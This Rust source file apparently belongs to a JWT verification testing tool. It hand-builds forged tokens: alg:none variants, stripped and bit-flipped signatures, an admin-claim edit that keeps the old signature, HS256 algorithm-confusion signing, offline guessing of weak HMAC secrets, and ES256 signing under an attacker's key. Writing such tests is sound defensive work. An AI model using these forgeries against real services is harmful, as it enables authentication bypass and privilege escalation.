//! Hand-built attack tokens: the one place where authgate builds JWTs itself, because
//! audited libraries refuse to make them (`alg: none`, stripped or tampered
//! signatures, HMAC signatures keyed with guessed or public material). Validly
//! signed tokens with bad claims come from an audited library instead.

use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use base64::Engine;
use hmac::{Hmac, Mac};
use serde_json::{Map, Value};
use sha2::Sha256;

/// A compact JWS split into its decoded header and payload and its raw signature.
#[derive(Debug, Clone, PartialEq)]
pub struct Jwt {
    pub header: Map<String, Value>,
    pub payload: Map<String, Value>,
    /// The third segment as sent (base64url).
    pub signature: String,
}

fn decode_part(part: &str, what: &str) -> Result<Map<String, Value>, String> {
    let bytes = URL_SAFE_NO_PAD
        .decode(part.trim_end_matches('='))
        .map_err(|e| format!("the {what} is not base64url: {e}"))?;
    match serde_json::from_slice::<Value>(&bytes) {
        Ok(Value::Object(map)) => Ok(map),
        Ok(_) => Err(format!("the {what} is not a JSON object")),
        Err(e) => Err(format!("the {what} is not JSON: {e}")),
    }
}

fn encode_part(map: &Map<String, Value>) -> String {
    URL_SAFE_NO_PAD.encode(serde_json::to_vec(map).expect("a JSON map serializes"))
}

impl Jwt {
    /// Parses a compact JWS (three dot-separated segments).
    pub fn parse(token: &str) -> Result<Jwt, String> {
        let parts: Vec<&str> = token.trim().split('.').collect();
        let [header, payload, signature] = parts.as_slice() else {
            return Err(format!(
                "not a compact JWT: {} segment(s), expected 3",
                parts.len()
            ));
        };
        Ok(Jwt {
            header: decode_part(header, "header")?,
            payload: decode_part(payload, "payload")?,
            signature: signature.to_string(),
        })
    }

    /// `header.payload` as sent, the input of the signature.
    pub fn signing_input(&self) -> String {
        format!(
            "{}.{}",
            encode_part(&self.header),
            encode_part(&self.payload)
        )
    }

    /// The token with its current signature.
    pub fn encode(&self) -> String {
        format!("{}.{}", self.signing_input(), self.signature)
    }

    /// The algorithm the header names.
    pub fn alg(&self) -> Option<&str> {
        self.header.get("alg").and_then(Value::as_str)
    }

    /// The same header and payload with no signature (`h.p.`).
    pub fn stripped(&self) -> String {
        format!("{}.", self.signing_input())
    }

    /// The same token with one bit of its signature flipped.
    pub fn tampered(&self) -> String {
        let mut bytes = URL_SAFE_NO_PAD
            .decode(self.signature.trim_end_matches('='))
            .unwrap_or_default();
        match bytes.last_mut() {
            Some(last) => *last ^= 0x01,
            None => bytes.push(0x01),
        }
        format!("{}.{}", self.signing_input(), URL_SAFE_NO_PAD.encode(bytes))
    }

    /// `alg` set to `variant` (`none`, `None`, `NONE`, `nOnE`), no signature.
    pub fn alg_none(&self, variant: &str) -> String {
        let mut forged = self.clone();
        forged
            .header
            .insert("alg".into(), Value::String(variant.into()));
        forged.stripped()
    }

    /// The payload changed by `edit`, the original signature kept: a service that
    /// verifies must refuse it.
    pub fn with_claims(&self, edit: impl FnOnce(&mut Map<String, Value>)) -> Jwt {
        let mut forged = self.clone();
        edit(&mut forged.payload);
        forged
    }

    /// Header and payload signed with HS256 under `key` (an empty key, a guessed
    /// secret, or public key bytes for algorithm confusion).
    pub fn signed_hs256(&self, key: &[u8]) -> String {
        let mut forged = self.clone();
        forged
            .header
            .insert("alg".into(), Value::String("HS256".into()));
        let input = forged.signing_input();
        format!(
            "{input}.{}",
            URL_SAFE_NO_PAD.encode(hs256(key, input.as_bytes()))
        )
    }

    /// Whether the token's own HMAC signature (HS256, HS384 or HS512, as its header
    /// says) was made with `key`: offline guessing of a weak secret, nothing is sent.
    pub fn hmac_key_is(&self, token: &str, key: &[u8]) -> bool {
        let Some((input, signature)) = token.trim().rsplit_once('.') else {
            return false;
        };
        let Ok(expected) = URL_SAFE_NO_PAD.decode(signature.trim_end_matches('=')) else {
            return false;
        };
        match self.alg() {
            Some(alg) => hmac(alg, key, input.as_bytes()).is_some_and(|mac| mac == expected),
            None => false,
        }
    }

    /// Header and payload signed with ES256 under an attacker's key (embedded-key and
    /// key-URL attacks); the signature comes from the audited `p256` crate.
    pub fn signed_es256(&self, key: &p256::ecdsa::SigningKey) -> String {
        use p256::ecdsa::signature::Signer;
        let mut forged = self.clone();
        forged
            .header
            .insert("alg".into(), Value::String("ES256".into()));
        let input = forged.signing_input();
        let signature: p256::ecdsa::Signature = key.sign(input.as_bytes());
        format!("{input}.{}", URL_SAFE_NO_PAD.encode(signature.to_bytes()))
    }
}

/// HMAC of `input` under `key` for an `HS*` algorithm name.
fn hmac(alg: &str, key: &[u8], input: &[u8]) -> Option<Vec<u8>> {
    use hmac::digest::KeyInit;
    fn run<M: Mac + KeyInit>(key: &[u8], input: &[u8]) -> Vec<u8> {
        let mut mac = <M as KeyInit>::new_from_slice(key).expect("HMAC takes any key length");
        mac.update(input);
        mac.finalize().into_bytes().to_vec()
    }
    match alg {
        "HS256" => Some(run::<Hmac<Sha256>>(key, input)),
        "HS384" => Some(run::<Hmac<sha2::Sha384>>(key, input)),
        "HS512" => Some(run::<Hmac<sha2::Sha512>>(key, input)),
        _ => None,
    }
}

fn hs256(key: &[u8], input: &[u8]) -> Vec<u8> {
    hmac("HS256", key, input).expect("HS256 is an HMAC algorithm")
}

#[cfg(test)]
mod tests {
    use super::*;

    /// HS256 over {"sub":"alice","exp":4102444800} with the key "secret".
    fn token() -> String {
        let jwt = Jwt {
            header: serde_json::from_str(r#"{"alg":"HS256","typ":"JWT"}"#).unwrap(),
            payload: serde_json::from_str(r#"{"sub":"alice","exp":4102444800}"#).unwrap(),
            signature: String::new(),
        };
        jwt.signed_hs256(b"secret")
    }

    #[test]
    fn forged_variants_have_the_shapes_attacks_need() {
        let original = token();
        let jwt = Jwt::parse(&original).unwrap();
        assert_eq!(jwt.alg(), Some("HS256"));
        assert!(jwt.hmac_key_is(&original, b"secret"));
        assert!(!jwt.hmac_key_is(&original, b"secret2"));

        let stripped = jwt.stripped();
        assert!(stripped.ends_with('.') && stripped.matches('.').count() == 2);
        let none = Jwt::parse(&jwt.alg_none("nOnE")).unwrap();
        assert_eq!(none.alg(), Some("nOnE"));
        assert_eq!(none.signature, "");

        let tampered = jwt.tampered();
        assert_ne!(tampered, original);
        assert_eq!(
            tampered.rsplit_once('.').unwrap().0,
            original.rsplit_once('.').unwrap().0
        );

        let admin = jwt.with_claims(|c| {
            c.insert("role".into(), Value::String("admin".into()));
        });
        assert_eq!(admin.signature, jwt.signature, "the signature is kept");
        assert_eq!(admin.payload["role"], "admin");

        let empty_key = jwt.signed_hs256(b"");
        assert!(Jwt::parse(&empty_key).unwrap().hmac_key_is(&empty_key, b""));
    }

    #[test]
    fn malformed_tokens_say_what_is_wrong() {
        assert!(Jwt::parse("abc").unwrap_err().contains("1 segment"));
        assert!(Jwt::parse("!!.e30.").unwrap_err().contains("base64url"));
        assert!(Jwt::parse("W10.e30.")
            .unwrap_err()
            .contains("not a JSON object"));
    }
}
